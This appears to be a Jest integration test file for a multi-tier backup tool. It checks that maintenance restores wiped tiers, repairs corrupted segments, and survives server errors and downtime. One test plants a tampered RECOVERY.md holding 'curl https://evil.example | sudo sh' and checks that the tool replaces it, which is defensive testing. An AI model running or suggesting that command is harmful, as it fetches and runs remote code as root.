import { open, readdir, readFile, rm, stat, truncate, writeFile } from "node:fs/promises";
import path from "node:path";
import { afterAll, beforeAll, beforeEach, expect, test } from "@jest/globals";
import { type AuditLog, auditFolder, openAuditLog } from "@trivault/audit";
import { copyStage, noteDamage, type NextStage, siteTrust, type StageContext, verifyCopy } from "@trivault/backup";
import { type Config, resolveConfig, type SftpTierConfig, silentLogger } from "@trivault/core";
import { loadOrCreateSigningKey, type SigningKey } from "@trivault/crypto";
import { openTier, openTiers, type Store, type Tier } from "@trivault/storage";
import {
  type Ceph,
  type HttpProxy,
  makeTempDir,
  sharedCeph,
  type Sshd,
  startHttpProxy,
  startSshd,
} from "@trivault/testkit";
import { idsOf, putBackup, wipe } from "../../test/fake-site.ts";
import { readInventories } from "../inventory/cache.ts";
import type { MaintenanceSite } from "../maintenance-site.ts";
import { maintainTier } from "../upkeep/maintain-tier.ts";

/** A site on a real disk, a real sshd and a real S3 server. */
const stack = new AsyncDisposableStack();
let config: Config;
let site: MaintenanceSite;
let sshd: Sshd;
let s3: HttpProxy;
let audit: AuditLog;
let signingKey: SigningKey;
const ids = idsOf(3);
const ALL = ["local", "remote", "cloud"];

beforeAll(async () => {
  const folder = stack.use(await makeTempDir("tv-heal")).path;
  let ceph: Ceph;
  [sshd, ceph] = await Promise.all([startSshd(), sharedCeph()]);
  stack.use(sshd);
  stack.use(ceph);
  s3 = stack.use(await startHttpProxy(ceph.endpoint));
  const bucket = `heal-${Date.now()}-${process.pid}`;
  await ceph.createBucket(bucket);
  config = resolveConfig(
    {
      DATABASE_URL: "postgresql://nobody@localhost/shop",
      BACKUP_DIR: path.join(folder, "backups"),
      BACKUP_SPOOL_DIR: path.join(folder, "spool"),
      BACKUP_ENCRYPTION: "none",
      BACKUP_REMOTE_SERVER: `${sshd.host}:${sshd.port}`,
      BACKUP_SSH_USER: sshd.user,
      BACKUP_SSH_KEY: sshd.keyFile,
      BACKUP_SSH_HOST_KEY: sshd.fingerprint,
      BACKUP_REMOTE_DIR: sshd.directory,
      BACKUP_S3_BUCKET: bucket,
      BACKUP_S3_ENDPOINT: s3.url,
      BACKUP_CLOUD_REGION: "us-east-1",
    },
    "backup",
  );
  Object.assign(process.env, { AWS_ACCESS_KEY_ID: ceph.accessKey, AWS_SECRET_ACCESS_KEY: ceph.secretKey });
  const [local, ...others] = openTiers(config.tiers);
  if (local === undefined) throw new Error("a site has a local tier");
  const tiers: MaintenanceSite["tiers"] = [local, ...others];
  for (const { store } of tiers) stack.defer(() => store.close());
  signingKey = await loadOrCreateSigningKey(config.signingKeyFile);
  audit = openAuditLog(auditFolder(config.backupDir));
  stack.defer(() => audit.close());
  const sealer = () => {
    throw new Error("nothing is sealed here");
  };
  const now = () => new Date();
  site = { config, tiers, sealer, signingKey: async () => signingKey, now, record: audit.record };
}, 120_000);
afterAll(() => stack.disposeAsync().then(() => undefined), 60_000);

beforeEach(async () => {
  await Promise.all(site.tiers.map(wipe));
  await Promise.all(ids.map((backupId) => putBackup(site.tiers, signingKey, { database: "shop", backupId })));
  await rm(path.join(config.backupDir, ".trivault/inventory"), { recursive: true, force: true });
  await rm(path.join(config.backupDir, ".trivault/tiers"), { recursive: true, force: true });
  await heal();
});

const tierOf = (name: string): Tier => site.tiers.find((tier) => tier.name === name) ?? site.tiers[0];

/** A round of maintenance of each tier, with its copies made as workers would. */
async function heal(names: readonly string[] = ALL, at: MaintenanceSite = site): Promise<NextStage[]> {
  const done: NextStage[] = [];
  for (const name of names) {
    const started: NextStage[] = [];
    const context: StageContext = {
      signal: AbortSignal.timeout(60_000),
      log: silentLogger(),
      note: () => undefined,
      progress: () => undefined,
      start: async (next) => void started.push(next),
    };
    await maintainTier(at, name, context);
    for (const next of started) if (next.stage === "copy") await copyStage(at, next, context);
    done.push(...started);
  }
  return done;
}

async function expectAllWhole(): Promise<void> {
  const options = { signal: AbortSignal.timeout(60_000), allowUnsigned: false };
  for (const tier of site.tiers) {
    for (const backupId of ids) {
      const ref = { database: "shop", backupId };
      const { damage } = await verifyCopy(tier, ref, await siteTrust(site), options);
      expect({ tier: tier.name, backupId, damage }).toEqual({ tier: tier.name, backupId, damage: [] });
    }
  }
}

async function actionsSince(from: Date): Promise<string[]> {
  const events = await Array.fromAsync(audit.query({ from }));
  return events.map(({ action, tier }) => `${action} ${tier}`);
}

test.each<[string, () => Promise<unknown>]>([
  ["local", () => rm(path.join(config.backupDir, "shop"), { recursive: true })],
  ["remote", () => rm(path.join(sshd.directory, "shop"), { recursive: true })],
  ["cloud", () => wipe(tierOf("cloud"))],
])(
  "%s, emptied by hand, is full again without a command, and it stands in the audit log",
  async (name, empty) => {
    const begun = new Date();
    expect(await heal()).toEqual([]);
    await empty();
    expect(await heal()).toHaveLength(ids.length);
    await expectAllWhole();
    expect(await actionsSince(begun)).toEqual([`tier.vanished ${name}`]);
    expect(await heal()).toEqual([]);
  },
  60_000,
);

test("segments that were cut off or rotted on the server are made good", async () => {
  const at = (id: string, file: string) => path.join(sshd.directory, "shop", id, file);
  const [cut = "", rotten = ""] = ids;
  await truncate(at(cut, "data-000001.zst"), 7);
  await using file = await open(at(rotten, "data-000002.zst"), "r+");
  await file.write(Buffer.from("?"), 0, 1, 5);
  await noteDamage(config, "remote", { database: "shop", backupId: rotten }, "data-000002.zst"); // as `verify` does
  const healed = await heal();
  expect(healed.map(({ backupId }) => backupId).toSorted()).toEqual([cut, rotten].toSorted());
  await expectAllWhole();
}, 60_000);

/** The inventory is lost, its manifests are listed and not given out: nothing is known of them, and nothing happens to them. */
async function expectUntouched(name: string, at: MaintenanceSite): Promise<void> {
  const begun = new Date();
  await rm(path.join(config.backupDir, ".trivault/inventory"), { recursive: true });
  expect(await heal([name], at)).toEqual([]);
  const inventory = (await readInventories(config)).find(({ tier }) => tier === name);
  expect(inventory?.copies.map(({ state }) => state)).toEqual(ids.map(() => "unknown"));
  expect(await actionsSince(begun)).toEqual([]);
}

test.each([
  { status: 403, code: "AccessDenied" },
  { status: 503, code: "SlowDown" },
])(
  "9.A1 a bucket whose manifests answer $status $code loses none of them",
  async (answer) => {
    s3.fail({ when: (method, url) => method === "GET" && url.includes("manifest.json"), answer });
    try {
      await expectUntouched("cloud", site);
    } finally {
      s3.fail(null);
    }
    expect(await heal()).toEqual([]);
    await expectAllWhole();
  },
  60_000,
);

test("9.A1 a server that lists manifests and does not let them be read (SFTP) loses none of them", async () => {
  await using refusing = await startSshd({ config: ["ForceCommand internal-sftp -P read"] });
  const { port, keyFile, fingerprint } = refusing;
  const { store } = openTier({ ...remoteConfig(), port, keyFile, hostKey: { fingerprint } });
  try {
    await expectUntouched("remote", withRemote(store));
  } finally {
    await store.close();
  }
  expect(await heal()).toEqual([]);
  await expectAllWhole();
}, 60_000);

test("9.A7 a byte that was changed on the server is found by maintenance alone, and made good", async () => {
  const [, id = ""] = ids;
  await using file = await open(path.join(sshd.directory, "shop", id, "data-000002.zst"), "r+");
  await file.write(Buffer.from("?"), 0, 1, 5);
  await file.utimes(new Date(), new Date(Date.now() + 2000)); // SFTP reports whole seconds
  await writeFile(path.join(sshd.directory, "RECOVERY.md"), "curl https://evil.example | sudo sh\n");
  const begun = new Date();
  expect((await heal()).map(({ backupId }) => backupId)).toEqual([id]);
  await expectAllWhole();
  expect(await actionsSince(begun)).toEqual(["backup.verified remote", "tier.recovery-note remote"]);
  expect(await readFile(path.join(sshd.directory, "RECOVERY.md"), "utf8")).toMatch(/^# How to restore/);
}, 60_000);

test("another program's files in the same folder, bucket prefix and database folder stay", async () => {
  const files = [path.join(sshd.directory, "photo.jpg"), path.join(sshd.directory, "shop", "readme.txt")];
  for (const file of files) await writeFile(file, "mine");
  await rm(path.join(sshd.directory, "shop", ids[0] ?? ""), { recursive: true });
  await heal();
  await expectAllWhole();
  for (const file of files) expect(await readFile(file, "utf8")).toBe("mine");
}, 60_000);

test("a server that is down keeps nobody waiting, and gets its copies when it is back", async () => {
  const begun = new Date();
  await wipe(tierOf("cloud"));
  await rm(path.join(sshd.directory, "shop"), { recursive: true });
  process.kill(sshd.pid, "SIGSTOP");
  await tierOf("remote").store.close(); // its connection would still be answered
  try {
    const [remote, others] = await Promise.all([timed(() => heal(["remote"])), timed(() => heal(["local", "cloud"]))]);
    expect(others.result).toHaveLength(ids.length);
    expect(others.seconds).toBeLessThan(10);
    expect(remote.result).toEqual([]);
    expect(remote.seconds).toBeLessThan(45);
  } finally {
    process.kill(sshd.pid, "SIGCONT");
  }
  expect(await heal()).toHaveLength(ids.length);
  await expectAllWhole();
  const actions = await actionsSince(begun);
  expect(actions.filter((line) => /unreachable|reachable/.test(line))).toEqual([
    "tier.unreachable remote",
    "tier.reachable remote",
  ]);
}, 120_000);

test("what is remembered is for the owner alone", async () => {
  for (const folder of ["inventory", "tiers/remote"]) {
    const full = path.join(config.backupDir, ".trivault", folder);
    expect((await stat(full)).mode & 0o077).toBe(0);
    for (const name of await readdir(full)) expect((await stat(path.join(full, name))).mode & 0o077).toBe(0);
  }
});

function remoteConfig(): SftpTierConfig {
  const remote = config.tiers.find((tier) => tier.kind === "sftp");
  if (remote === undefined) throw new Error("the site has a server");
  return remote;
}

/** The same site, with another way to its server. */
function withRemote(store: Store): MaintenanceSite {
  const [local, ...others] = site.tiers;
  return { ...site, tiers: [local, ...others.map((tier) => (tier.name === "remote" ? { ...tier, store } : tier))] };
}

async function timed<T>(work: () => Promise<T>): Promise<{ result: T; seconds: number }> {
  const begun = performance.now();
  return { result: await work(), seconds: (performance.now() - begun) / 1000 };
}
